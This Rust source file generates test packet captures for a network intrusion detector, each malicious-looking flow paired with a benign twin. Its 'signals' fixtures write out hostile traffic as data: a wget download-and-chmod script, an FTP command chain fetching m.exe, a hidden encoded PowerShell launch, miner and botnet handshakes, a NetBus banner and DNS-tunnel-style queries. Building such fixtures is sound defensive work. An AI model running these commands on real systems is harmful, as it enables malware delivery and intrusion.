//! The made-up fixtures of signals that no program here sends on demand, and their harmless twins. Written to
//! `fixtures/forged-*.pcap` by `tests/forged.rs`.

use super::shapes::{End, Tape};
use super::{Forged, SYN, tcp_frame};

const CLIENT: End = (1, 40_000);

/// Name and frames of each.
#[must_use]
pub fn all() -> Vec<(&'static str, Vec<Forged>)> {
    vec![("forged-signals", signals()), ("forged-twins", twins())]
}

fn asked(text: &str) -> (bool, Vec<u8>) {
    (false, text.as_bytes().to_vec())
}

/// Bytes as evenly spread as random ones, the same on every run.
fn noise(len: usize) -> Vec<u8> {
    let mut state = 5u64;
    let mut next = || {
        state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 56) as u8
    };
    (0..len).map(|_| next()).collect()
}

fn dns_question(id: u8, label: &str) -> Vec<u8> {
    let mut question = vec![id, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, label.len() as u8];
    question.extend(label.as_bytes());
    question.extend(b"\x04test\0\0\x10\0\x01");
    question
}

fn dns_answer(question: &[u8]) -> Vec<u8> {
    let mut answer = question.to_vec();
    answer[2] = 0x81;
    answer[3] = 0x80;
    answer
}

fn said(text: &str) -> (bool, Vec<u8>) {
    (true, text.as_bytes().to_vec())
}

/// A TLS 1.2 hello, and the server's with a certificate: as recorded for the signatures' own tests.
fn hello(name: &[u8]) -> Vec<u8> {
    let mut body = b"\x03\x030123456789abcdef0123456789abcdef\0\0\x02\xc0\x2b\x01\0".to_vec();
    let name_len = name.len() as u8;
    body.extend([0, name_len + 9, 0, 0, 0, name_len + 5, 0, name_len + 3, 0, 0, name_len]);
    body.extend(name);
    let len = body.len() as u8;
    [b"\x16\x03\x01\0", &[len + 4][..], b"\x01\0\0", &[len][..], &body].concat()
}

/// One conversation a signal, all with the first host as client, each on its own port of the second.
fn signals() -> Vec<Forged> {
    let mut tape = Tape::default();
    let server = |port| (2, port);
    tape.tcp(
        CLIENT,
        server(811),
        &[asked("next\n"), said("#!/bin/sh\nwget -q http://10.0.0.9/a -O /tmp/a\nchmod +x /tmp/a\n")],
    );
    tape.tcp(
        CLIENT,
        server(812),
        &[asked("echo open 10.0.0.1 2121 > o&echo user a b >> o &echo get m.exe >> o &ftp -s:o\r\n")],
    );
    let stub = b"HTTP/1.1 200 OK\r\nContent-Length: 600\r\n\r\nMZ\x90\0This program cannot be run in DOS mode".to_vec();
    tape.tcp(CLIENT, server(813), &[asked("GET /Ab3aaac HTTP/1.1\r\nHost: 10.0.0.2\r\n\r\n"), (true, stub)]);
    // NULL and SYN with FIN, to one port only: no sweep.
    tape.add(tcp_frame(CLIENT, server(815), 7, 0, &[]));
    tape.add(tcp_frame(CLIENT, server(815), 7, SYN | super::FIN, &[]));
    let subscribe = "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"miner/1.0\"]}\n";
    tape.tcp(CLIENT, server(816), &[asked(subscribe), said("{\"id\":1,\"result\":[],\"error\":null}\n")]);
    tape.tcp(CLIENT, server(817), &[asked("BUILD MIPSEL\n"), said("!* SCANNER ON\n")]);
    tape.tcp(CLIENT, server(818), &[said("NetBus 1.70\r"), asked("Password;1;\r")]);
    let uname = "Linux meter 6.1.0-18-arm64 #1 SMP Debian 6.1.76-1 aarch64 GNU/Linux\n";
    tape.tcp(CLIENT, server(819), &[asked("uname -a\n"), said(uname)]);
    let tool = include_bytes!("../../src/signature/certificate/tool.bin").to_vec();
    tape.tcp(CLIENT, server(820), &[(false, hello(b"odd.test")), (true, tool)]);
    let onion = hello(b"www.r3ntv5c6pq.com");
    tape.tcp(CLIENT, server(821), &[(false, onion), (true, b"\x15\x03\x03\0\x02\x02\x28".to_vec())]);
    // What a reviewer's captures showed: bare prompts, long lines, forged hellos, a tunnel from many ports.
    tape.tcp(
        CLIENT,
        server(822),
        &[said("$ "), asked("ls -la /tmp\n"), said("a.txt\n$ "), asked("cat a.txt\n"), said("hello\n$ ")],
    );
    tape.tcp(
        CLIENT,
        server(823),
        &[asked("POST /submit.php?id=94834 HTTP/1.1\r\nHost: 10.0.0.2\r\n\r\n"), said("HTTP/1.1 200 OK\r\n\r\n")],
    );
    tape.tcp(CLIENT, server(824), &[(false, hello(b"odd.test")), (true, noise(700))]);
    for number in 0..12u8 {
        let question = dns_question(number, "mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpiytemz");
        tape.ask((1, 50_000 + u16::from(number)), server(825), &question, &dns_answer(&question));
    }
    tape.tcp(
        CLIENT,
        server(826),
        &[said("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA\r\n"), asked("ok\r\n")],
    );
    // A connection that stays for more than an hour.
    let [a, b] =
        tape.middle(CLIENT, server(814), [100, 500], &[(false, vec![1, 2, 3, 250]), (true, vec![4, 5, 6, 251])]);
    tape.wait(3700);
    tape.middle(CLIENT, server(814), [a, b], &[(false, vec![1, 2, 3, 252]), (true, vec![4, 5, 6, 253])]);
    tape.0
}

/// The same ports and places with what is harmless: text about shells, a status question, a chat, a certificate of a lab.
fn twins() -> Vec<Forged> {
    let mut tape = Tape::default();
    let server = |port| (2, port);
    tape.tcp(CLIENT, server(811), &[asked("next\n"), said("# Notes\nuse #!/bin/sh in the first line of a script\n")]);
    tape.tcp(CLIENT, server(812), &[asked("echo open door\r\n"), said("open door\r\n")]);
    let page = "HTTP/1.1 200 OK\r\nContent-Length: 26\r\n\r\n<p>MZ is a DOS header.</p>";
    tape.tcp(CLIENT, server(813), &[asked("GET /Status HTTP/1.1\r\nHost: meter.test\r\n\r\n"), said(page)]);
    tape.tcp(CLIENT, server(814), &[(false, vec![1, 2, 3, 250]), (true, vec![4, 5, 6, 251])]);
    tape.add(tcp_frame(CLIENT, server(815), 7, SYN, &[]));
    let status = "{\"id\":1,\"method\":\"status\",\"params\":[]}\n";
    tape.tcp(CLIENT, server(816), &[asked(status), said("{\"id\":1,\"result\":{\"load\":1}}\n")]);
    tape.tcp(CLIENT, server(817), &[asked("hello\n"), said("! the scanner in room 3 is broken\n")]);
    tape.tcp(CLIENT, server(818), &[said("NetBox 1.70 ready\r\n"), asked("status\r\n")]);
    tape.tcp(CLIENT, server(819), &[asked("about\n"), said("Linux is a kernel that many people use every day\n")]);
    let chat = "bob@example.com: total 100$";
    tape.tcp(CLIENT, server(822), &[asked("alice@work: see issue #"), said(chat), asked("bob@host is typing $ ")]);
    tape.tcp(
        CLIENT,
        server(823),
        &[asked("POST /submit.php HTTP/1.1\r\nHost: shop.test\r\n\r\n"), said("HTTP/1.1 200 OK\r\n\r\n")],
    );
    let mail = "Subject: help\r\n\r\n";
    let quoted = "uid=0(root) gid=0(root) groups=0(root)\r\nroot@web:~# \r\n.\r\n";
    tape.tcp(
        CLIENT,
        server(824),
        &[
            said("220 mail.test ESMTP\r\n"),
            asked("EHLO a.test\r\n"),
            said("250 ok\r\n"),
            asked(mail),
            asked(quoted),
            said("250 ok\r\n"),
        ],
    );
    for number in 0..12u8 {
        let question = dns_question(number, "b71e1fbe3d633608b972b730abe863145cee574a");
        tape.ask((1, 50_000 + u16::from(number)), server(825), &question, &dns_answer(&question));
    }
    let value = "$39\r\nuid=0(root) gid=0(root) groups=0(root)\n\r\n";
    tape.tcp(CLIENT, server(826), &[asked("*2\r\n$3\r\nGET\r\n$1\r\na\r\n"), said("$39\r\n"), said(value)]);
    let page = format!("{{\"rows\": [{}1]}}", "230, ".repeat(1000));
    let pushed = [&(page.len() as u32).to_le_bytes()[..], page.as_bytes()].concat();
    tape.tcp(CLIENT, server(827), &[(true, pushed), asked("thanks\n")]);
    let lab = include_bytes!("../../src/signature/certificate/example.bin").to_vec();
    tape.tcp(CLIENT, server(820), &[(false, hello(b"odd.test")), (true, lab)]);
    tape.0
}
